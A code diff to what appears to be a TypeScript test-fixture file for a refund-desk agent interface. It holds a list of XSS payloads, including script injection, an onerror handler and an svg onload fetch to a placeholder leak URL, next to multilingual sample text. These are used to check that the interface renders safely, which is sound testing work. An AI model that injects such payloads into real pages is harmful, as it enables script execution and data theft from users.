@@ -4,7 +4,7 @@ import { constant, deskStory, schemaOf } from './refund-desk.ts';
 import { calls, script } from './variants.ts';
 
 /** One line for each way a text can misbehave. */
-export const HOSTILE_LINES: readonly string[] = [
+const HOSTILE_LINES: readonly string[] = [
   '<script>document.title="taken"</script><img src=x onerror=alert(1)>',
   '"><svg/onload=fetch("https://example.invalid/leak")>',
   'javascript:alert(1) data:text/html,<b>x</b> [link](https://example.invalid) ![image](https://example.invalid/a.png)',
@@ -19,7 +19,7 @@ export const HOSTILE_LINES: readonly string[] = [
 ];
 
 /** The customer writes in many scripts. */
-export const MANY_SCRIPTS: readonly string[] = [
+const MANY_SCRIPTS: readonly string[] = [
   'Guten Tag, größere Kessel führen Sie nicht? Straße, Maß, Œuvre, naïve, Ångström.',
   'Здравствуйте, где мои деньги за чайник?',
   'مرحبا، أين المبلغ 84.00 عن الطلب O-2207؟',
@@ -33,6 +33,7 @@ export const MANY_SCRIPTS: readonly string[] = [
   '👩‍👩‍👧‍👦 🧑🏽‍🚒 🇩🇪 🏴󠁧󠁢󠁥󠁮󠁧󠁿 ✈️ 1️⃣',
 ];
 
+/** A run in which every text that can be is hostile, in many scripts. */
 export function hostile(): AgentStory {
   const ledger = schemaOf('read_<b>ledger</b>', 'Tool named to be shown, not run: <img src=x>', { page: 'Page' });
   return deskStory({
